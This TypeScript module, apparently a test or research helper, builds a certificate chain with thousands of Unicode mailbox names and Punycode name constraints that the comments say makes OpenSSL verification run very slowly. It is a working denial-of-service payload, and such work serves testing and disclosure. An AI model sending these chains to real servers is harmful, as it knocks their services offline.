// Certificates that any client can make for itself, and that OpenSSL verifies for long: it compares each name of a
// certificate with each name constraint of the certificates above it.
import { BasicConstraintsExtension, Extension } from '@peculiar/x509';
import { type Identity, issueChain } from './pki.js';

/**
 * A certificate with many names, and one of its authority with many name constraints. OpenSSL makes up to 2^20 comparisons
 * for two certificates, and reads 100 kB of them: 2,550 names and 405 constraints are as much as a client can send.
 */
export function costlyChain(names: number, constraints: number): Promise<Identity> {
  const constraint = element(0x30, element(0x81, encodedHost));
  const excluded = element(0xa1, ...repeated(constraints, constraint));
  return issueChain([
    [new Extension('2.5.29.17', false, element(0x30, ...repeated(names, mailbox)))],
    [
      new BasicConstraintsExtension(true, undefined, true),
      new Extension('2.5.29.30', false, element(0x30, excluded)),
    ],
  ]);
}

// SmtpUTF8Mailbox (RFC 9598 §3), whose host OpenSSL compares in Unicode with the host of a constraint, which it decodes for
// each comparison.
const mailbox = element(
  0xa0,
  element(0x06, Buffer.from([0x2b, 6, 1, 5, 5, 7, 8, 9])),
  element(0xa0, element(0x0c, Buffer.from('@'))),
);
/** The letter ñ 105 times, in Punycode. */
const encodedHost = Buffer.from(`xn--ida${'a'.repeat(104)}`);

function repeated(count: number, bytes: Buffer): Buffer[] {
  return Array.from({ length: count }, () => bytes);
}

function element(tag: number, ...content: readonly Buffer[]): Buffer {
  const all = Buffer.concat(content);
  const { length } = all;
  const head =
    length < 0x80 ? [length] : length < 0x100 ? [0x81, length] : [0x82, length >> 8, length & 0xff];
  return Buffer.concat([Buffer.from([tag, ...head]), all]);
}
